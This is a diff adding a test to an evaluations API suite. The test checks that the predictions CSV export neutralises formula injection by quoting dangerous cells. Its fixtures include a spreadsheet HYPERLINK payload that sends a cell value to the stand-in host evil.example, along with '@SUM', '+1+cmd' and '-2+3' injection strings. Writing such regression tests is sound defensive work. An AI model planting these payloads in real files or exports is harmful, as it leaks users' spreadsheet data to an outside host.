@@ -71,4 +71,19 @@ describe("evaluations API", () => {
     const missing = await getRoute(apiRequest("/api/evaluations/none"), routeParams({ id: "none" }));
     expect(missing.status).toBe(404);
   });
+
+  it("neutralises formula-like sentences and model outputs in the CSV export (CSV injection)", async () => {
+    const dataset = await createDataset();
+    const evaluation = await getDb().evaluation.create({ data: { model: "demo-tiny-zh", datasetId: dataset.id, split: "test", total: 2, status: "succeeded" } });
+    await getDb().prediction.createMany({
+      data: [
+        { evaluationId: evaluation.id, index: 1, sentence: '=HYPERLINK("http://evil.example/?x="&B3,"点")', label: 1, predicted: 1, output: "@SUM(1,2)" },
+        { evaluationId: evaluation.id, index: 2, sentence: "\t+1+cmd", label: 0, predicted: null, output: "-2+3" },
+      ],
+    });
+    const csv = await predictionsRoute(apiRequest(`/api/evaluations/${evaluation.id}/predictions?format=csv`), routeParams({ id: evaluation.id }));
+    const lines = (await csv.text()).trim().split("\r\n");
+    expect(lines[1]).toBe(`1,"'=HYPERLINK(""http://evil.example/?x=""&B3,""点"")",1,1,1,"'@SUM(1,2)"`);
+    expect(lines[2]).toBe(`2,"'\t+1+cmd",0,,0,"'-2+3"`);
+  });
 });
